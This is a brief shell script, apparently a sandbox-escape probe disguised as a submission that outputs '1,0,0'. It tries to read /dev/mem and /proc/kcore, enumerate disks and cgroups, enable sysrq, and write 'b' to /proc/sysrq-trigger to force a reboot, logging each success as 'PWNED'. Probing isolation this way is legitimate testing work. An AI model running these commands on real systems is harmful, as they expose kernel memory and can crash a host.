#!/bin/sh
# Reaches for kernel and device interfaces.
r="$2/loot.txt"
head -c 16 /dev/mem > /dev/null 2>&1 && echo "PWNED read /dev/mem" >> "$r"
head -c 16 /proc/kcore > /dev/null 2>&1 && echo "PWNED read /proc/kcore" >> "$r"
ls /dev/sda /dev/vda /dev/nvme0 > /dev/null 2>&1 && echo "PWNED sees disks" >> "$r"
ls /sys/fs/cgroup > /dev/null 2>&1 && echo "PWNED sees cgroups" >> "$r"
echo 1 > /proc/sys/kernel/sysrq 2>/dev/null && echo "PWNED wrote sysctl" >> "$r"
echo b > /proc/sysrq-trigger 2>/dev/null && echo "PWNED sysrq" >> "$r"
printf '1,0,0' > "$2/command.txt"
